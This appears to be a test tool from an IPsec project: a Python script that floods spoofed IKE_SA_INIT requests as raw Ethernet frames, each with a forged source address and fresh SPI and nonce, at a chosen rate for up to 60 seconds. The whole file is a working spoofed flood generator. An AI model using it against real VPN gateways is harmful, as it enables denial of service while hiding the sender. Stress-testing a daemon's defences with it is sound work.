# SPDX-License-Identifier: Apache-2.0
#
# Spoofed IKE_SA_INIT requests at a rate, or as many as this machine makes: each from the peer's address with an SPI and
# a nonce of its own. Written to the wire as frames, so that no kernel in between has to believe the source. Goes on
# until it is told to end (SIGTERM), then prints how many there were and in how many seconds.
import os
import signal
import socket
import struct
import sys
import time

MOST_SECONDS = 60  # should nobody end it
MOST_AT_ONCE = 300


def checksum(octets):
    total = sum(struct.unpack(f">{len(octets) // 2}H", octets))
    while total >> 16:
        total = (total & 0xffff) + (total >> 16)
    return ~total & 0xffff


def payload(kind, following, body):
    return struct.pack(">BBH", following, 0, 4 + len(body)) + body


def transform(last, kind, number, bits=0):
    attribute = struct.pack(">HH", 0x800e, bits) if bits else b""
    return struct.pack(">BBHBBH", 0 if last else 3, 0, 8 + len(attribute), kind, 0, number) + attribute


def request():
    """aes256gcm16-prfsha384-x25519-ke1_mlkem768, with what such a peer announces."""
    transforms = (transform(False, 1, 20, 256) + transform(False, 2, 6) + transform(False, 4, 31) +
                  transform(True, 6, 36))
    proposal = struct.pack(">BBHBBBB", 0, 0, 8 + len(transforms), 1, 1, 0, 4) + transforms
    notify = lambda kind, value=b"", following=41: payload(41, following, struct.pack(">BBH", 0, 0, kind) + value)
    chain = (payload(33, 34, proposal) + payload(34, 40, struct.pack(">HH", 31, 0) + os.urandom(32)) +
             payload(40, 41, os.urandom(32)) + notify(16430) + notify(16438) +
             notify(16431, struct.pack(">4H", 2, 3, 4, 5), 0))
    return struct.pack(">QQBBBBII", 1, 0, 33, 0x20, 34, 0x08, 0, 28 + len(chain)) + chain


def main():
    interface, own_mac, mac, source, destination, rate = sys.argv[1:7]
    rate = float(rate)  # a second; 0: as many as can be
    ended = []
    signal.signal(signal.SIGTERM, lambda *_: ended.append(True))
    message = bytearray(request())
    udp = struct.pack(">HHHH", 500, 500, 8 + len(message), 0)
    addresses = socket.inet_aton(source) + socket.inet_aton(destination)
    ip = bytearray(struct.pack(">BBHHHBBH", 0x45, 0, 28 + len(message), 0, 0, 64, 17, 0) + addresses)
    struct.pack_into(">H", ip, 10, checksum(bytes(ip)))
    ethernet = bytes.fromhex(mac.replace(":", "")) + bytes.fromhex(own_mac.replace(":", "")) + b"\x08\x00"
    frame = bytearray(ethernet + ip + udp + message)
    at = 14 + 28
    nonce = at + 28 + message[28:].index(struct.pack(">BBH", 41, 0, 36)) + 4
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    wire.bind((interface, 0))
    sent, refused, began = 0, 0, time.monotonic()
    credit, seen = 0.0, began
    while not ended and seen - began < MOST_SECONDS:
        now = time.monotonic()
        credit, seen = min(credit + (now - seen) * rate, MOST_AT_ONCE), now
        for _ in range(int(credit) if rate else MOST_AT_ONCE):
            struct.pack_into(">Q", frame, at, sent + 0x1000000000000001)
            struct.pack_into(">Q", frame, nonce, sent)
            try:
                wire.send(frame)
            except OSError:
                refused += 1
            sent += 1
        credit -= int(credit)
        if rate:
            time.sleep(0.001)
    print(sent, refused, time.monotonic() - began)


if __name__ == "__main__":
    main()
